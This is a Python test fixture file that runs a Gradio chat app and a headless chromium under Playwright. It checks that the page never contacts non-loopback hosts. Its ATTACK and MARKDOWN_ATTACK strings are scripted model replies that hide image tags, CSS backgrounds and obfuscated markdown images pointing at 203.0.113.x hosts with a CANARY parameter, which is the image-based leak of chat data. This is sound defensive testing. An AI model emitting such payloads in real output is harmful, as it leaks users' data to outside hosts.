"""Browser fixtures: the real Gradio app on 127.0.0.1 (in a thread) and Debian's chromium via Playwright.

Never run `playwright install`: Playwright drives /usr/bin/chromium. Every request the page makes is
recorded, and any request to a non-loopback host is aborted (and then fails the test that checks).
"""

from __future__ import annotations

import asyncio
import ipaddress
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from core.events import RunEvent, ToolCallEnded, ToolCallStarted
from core.orchestrator import Orchestrator
from core.prompt.builder import PromptBuilder
from core.prompt.tokens import EstimateCounter
from core.turn_context import ContextGatherer, JournalHistory
from core.types import Message, ToolCall
from memory.journal import Journal
from tests.browser.gui_page import free_port
from tests.browser.gui_stack import scripted_choice, stream_words

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
NOTICE = "Running on a scripted test model: fine for a demo, unreliable on facts."
ATTACK = (
    'Here: ![pixel](http://203.0.113.9/p.png?q=CANARY) and <img src="http://203.0.113.9/q.png"> '
    '<div style="background:url(http://203.0.113.9/bg.png)">styled</div> done.'
)
# Markdown that hid images from the old code-span guess, and the other forms an image can take.
MARKDOWN_ATTACK = "\n".join(
    [
        "note ~~~ ![x](http://203.0.113.10/t.png?q=CANARY)",
        "",
        "see ``` then ![a](http://203.0.113.11/b.png)",
        "",
        "ref ![r][img] and ![img] and [![badge](HTTP://203.0.113.12/c.png)](http://203.0.113.12/)",
        "",
        "nested ![a ![b](//203.0.113.13/d.png)](https://203.0.113.14/e.png) \\![f](http://203.0.113.15/g.png)",
        "",
        '<a title="`">x</a> `![i](http://203.0.113.16/h.png)` <IMG SRC=//203.0.113.17/i.png>',
        "",
        "| a | b |",
        "|---|---|",
        "| `x | ![t](http://203.0.113.18/j.png) ` | y |",
        "",
        "kept: `![code](http://203.0.113.19/k.png)` end.",
        "",
        "[img]: http://203.0.113.20/l.png",
    ]
)
SCRIPTED_ANSWERS = {"attack": ATTACK, "markdown attack": MARKDOWN_ATTACK}


class ScriptedAgent:
    """Echoes the last user message word by word; `tool …`, `slow …` and `SCRIPTED_ANSWERS` script others."""

    async def run(
        self, messages: list[Message], *, cancel: asyncio.Event | None = None, max_tokens: int | None = None
    ) -> AsyncIterator[RunEvent]:
        text = messages[-1].content.rsplit("The user says: ", 1)[-1]  # the message, not the whole prompt
        if text.startswith("tool"):
            call = ToolCall("t1", "search", {"query": text})
            yield ToolCallStarted(call)
            yield ToolCallEnded(call, ok=True, output="3 results", elapsed_ms=12)
        answer = SCRIPTED_ANSWERS.get(text, f"Echo: {text}")
        async for event in stream_words(answer, text.startswith("slow"), cancel):
            yield event


@dataclass
class Server:
    url: str
    journal: Journal


@dataclass
class Recorder:
    """Every URL the page requested; `foreign` holds those for non-loopback hosts (aborted).

    `urls` and `foreign` come from route interception; `events` from the page's own request events, which
    also see requests a route may not (service workers, some preloads), so a test can check both.
    """

    urls: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    events: list[str] = field(default_factory=list)

    def left_loopback(self) -> list[str]:
        """Every non-loopback URL seen either way."""
        return sorted({*self.foreign, *(url for url in self.events if not _is_loopback_url(url))})


def _is_loopback_url(url: str) -> bool:
    parts = urlsplit(url)
    if parts.scheme in ("data", "blob", "about"):
        return True
    host = parts.hostname or ""
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


@pytest.fixture(scope="module")
def chromium_path() -> Path:
    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is missing (apt-get install -y chromium); CI installs it")
    return CHROMIUM


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, chromium_path: Path) -> Iterator[Server]:
    from ui.gui.app import build_app, launch

    data = tmp_path_factory.mktemp("gui")
    journal = Journal(data / "j.db")
    orchestrator = Orchestrator(
        models=[scripted_choice(ScriptedAgent)],
        log=journal,
        context=ContextGatherer(JournalHistory(journal, 8)),
        prompt=PromptBuilder("You are a test.", EstimateCounter(), 8000),
    )
    app = build_app(orchestrator, title="Daemon", model_notice=NOTICE)
    url = launch(app, "127.0.0.1", free_port(), None, block=False, quiet=True, blocked_paths=[data])
    try:
        yield Server(url, journal)
    finally:
        app.close()
        journal.close()


@pytest.fixture(scope="module")
def browser(chromium_path: Path) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(chromium_path), args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def context(request: pytest.FixtureRequest, browser: Any) -> Iterator[Any]:
    """A fresh browser context (its own cookies and storage: one browser session); a test module may set
    VIEWPORT_HEIGHT."""
    height = getattr(request.module, "VIEWPORT_HEIGHT", 900)
    ctx = browser.new_context(viewport={"width": 1200, "height": height})
    try:
        yield ctx
    finally:
        ctx.close()


@pytest.fixture
def page(browser: Any, server: Server) -> Iterator[tuple[Any, Recorder]]:
    """A fresh browser context on the chat page, with every request recorded and foreign ones aborted."""
    recorder = Recorder()
    context = browser.new_context()

    def route(route: Any) -> None:
        url = route.request.url
        recorder.urls.append(url)
        if _is_loopback_url(url):
            route.continue_()
        else:
            recorder.foreign.append(url)
            route.abort()

    context.route("**/*", route)
    page = context.new_page()
    page.on("request", lambda request: recorder.events.append(request.url))
    page.set_default_timeout(15_000)
    page.goto(server.url)
    page.wait_for_selector("#msg textarea")
    try:
        yield page, recorder
    finally:
        context.close()
